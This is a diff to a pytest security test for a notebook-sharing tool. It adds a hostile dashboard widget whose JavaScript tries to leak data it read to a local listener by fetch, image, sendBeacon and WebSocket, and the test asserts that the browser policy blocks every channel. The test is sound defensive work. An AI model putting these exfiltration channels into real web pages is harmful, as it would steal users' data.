@@ -9,7 +9,9 @@ cookie, and script a hidden frame of A's dashboard.
 
 from __future__ import annotations
 
+import http.server
 import json
+import threading
 from pathlib import Path
 
 import pytest
@@ -37,6 +39,13 @@ class Probe(anywidget.AnyWidget):
             out[name] = "blocked";
           }
         }
+        // Try to send what it read to a host of its own, every way a page can.
+        const leak = model.get("leak");
+        try { await fetch(leak + "?via=fetch", { method: "POST", body: "rows", mode: "no-cors" }); }
+        catch (e) { out.leak_fetch = "blocked"; }
+        new Image().src = leak + "?via=image";
+        try { navigator.sendBeacon(leak + "?via=beacon", "rows"); } catch (e) {}
+        try { new WebSocket(leak.replace("http", "ws") + "?via=websocket"); } catch (e) {}
         const frame = document.createElement("iframe");
         frame.src = model.get("page");
         document.body.appendChild(frame);
@@ -54,8 +63,9 @@ class Probe(anywidget.AnyWidget):
     """
     targets = traitlets.Dict().tag(sync=True)
     page = traitlets.Unicode().tag(sync=True)
+    leak = traitlets.Unicode().tag(sync=True)
 
-Probe(targets=TARGETS, page=PAGE)
+Probe(targets=TARGETS, page=PAGE, leak=LEAK)
 '''
 
 
@@ -64,6 +74,7 @@ def test_a_hostile_dashboard_cannot_read_or_frame_another_share(
 ) -> None:
     import nbformat
 
+    leak = Listener()
     victim = Share(sample_store, relay.url, tmp_path / "alice", "--dashboard", "--name", "alpha")
     try:
         link = parse_link(victim.link)
@@ -76,7 +87,11 @@ def test_a_hostile_dashboard_cannot_read_or_frame_another_share(
         }
         notebook = tmp_path / "hostile.ipynb"
         nb = nbformat.v4.new_notebook()
-        source = PROBE.replace("TARGETS", json.dumps(targets)).replace("PAGE", json.dumps(own))
+        source = (
+            PROBE.replace("TARGETS", json.dumps(targets))
+            .replace("PAGE", json.dumps(own))
+            .replace("LEAK", json.dumps(leak.url))
+        )
         nb.cells = [nbformat.v4.new_code_cell(source)]
         nbformat.write(nb, notebook)
         hostile = Share(sample_store, relay.url, tmp_path / "mallory", "--dashboard", str(notebook))
@@ -105,6 +120,10 @@ def test_a_hostile_dashboard_cannot_read_or_frame_another_share(
             hostile.stop()
     finally:
         victim.stop()
+        leak.close()
+    # Nothing the page read left for another host: the policy stopped every channel in
+    # the browser, so the listener never heard a thing.
+    assert leak.heard == [], leak.heard
     for name in targets:
         # Another origin without CORS: the browser never hands the answer to the script;
         # on the relay's origin there is no cookie of A's at all.
@@ -112,6 +131,37 @@ def test_a_hostile_dashboard_cannot_read_or_frame_another_share(
             found[name].startswith("read 403") and "relay_origin" in name
         ), (name, found[name])
     assert found["frame"] == "blocked", found["frame"]
+
+
+class Listener:
+    """An HTTP server on loopback that records every request: the exfiltrator's host."""
+
+    def __init__(self) -> None:
+        self.heard: list[str] = []
+        heard = self.heard
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                heard.append(f"GET {self.path}")
+                self.send_response(204)
+                self.end_headers()
+
+            def do_POST(self) -> None:
+                heard.append(f"POST {self.path}")
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/leak"
+        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
+        self.thread.start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
 
 
 def _on_this_machine(url: str) -> bool:
